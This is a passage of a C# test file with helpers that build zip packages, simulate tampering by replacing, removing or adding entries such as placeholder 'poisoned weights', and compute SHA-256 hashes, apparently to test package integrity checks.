            using var stream = new MemoryStream();
            using (var zip = new ZipArchive(stream, ZipArchiveMode.Create, leaveOpen: true))
            {
                using var writer = new StreamWriter(zip.CreateEntry("Model/w.bin").Open());
                writer.Write("poisoned weights");
            }

            return stream.ToArray();
        }

        /// <summary>Copies a package entry by entry, replacing, removing or adding one, as an attacker with a zip tool would.</summary>
        private string Rewrite(string package, string name, (string Name, byte[] Bytes)? replace = null, string? remove = null, (string Name, byte[] Bytes)? add = null)
        {
            var target = project.Combine("tampered/" + name);
            Directory.CreateDirectory(Path.GetDirectoryName(target)!);
            using (var source = ZipFile.OpenRead(package))
            using (var output = ZipFile.Open(target, ZipArchiveMode.Create))
            {
                foreach (var entry in source.Entries)
                {
                    if (entry.FullName == remove)
                    {
                        continue;
                    }

                    var bytes = replace is { } r && r.Name == entry.FullName ? r.Bytes : ReadBytes(source, entry.FullName);
                    using var stream = output.CreateEntry(entry.FullName).Open();
                    stream.Write(bytes);
                }

                if (add is { } a)
                {
                    using var stream = output.CreateEntry(a.Name).Open();
                    stream.Write(a.Bytes);
                }
            }

            return target;
        }

        private string WriteZip(string relative, DateTimeOffset time, CompressionLevel level, params (string Name, string? Content)[] entries)
        {
            var path = project.Combine(relative);
            Directory.CreateDirectory(Path.GetDirectoryName(path)!);
            WriteZipAt(path, time, level, entries);
            return path;
        }

        private static void WriteZipAt(string path, DateTimeOffset time, CompressionLevel level, params (string Name, string? Content)[] entries)
        {
            using var zip = ZipFile.Open(path, ZipArchiveMode.Create);
            foreach (var (name, content) in entries)
            {
                var entry = zip.CreateEntry(name, level);
                entry.LastWriteTime = time;
                if (content is not null)
                {
                    using var writer = new StreamWriter(entry.Open(), new UTF8Encoding(false));
                    writer.Write(content);
                }
            }
        }

        private static byte[] ReadBytes(ZipArchive zip, string name)
        {
            using var stream = zip.GetEntry(name)!.Open();
            using var copy = new MemoryStream();
            stream.CopyTo(copy);
            return copy.ToArray();
        }

        private static string Sha256(string path) => HexSha256(File.ReadAllBytes(path));

        private static string HexSha256(byte[] bytes) => Convert.ToHexString(SHA256.HashData(bytes)).ToLowerInvariant();
    }
}
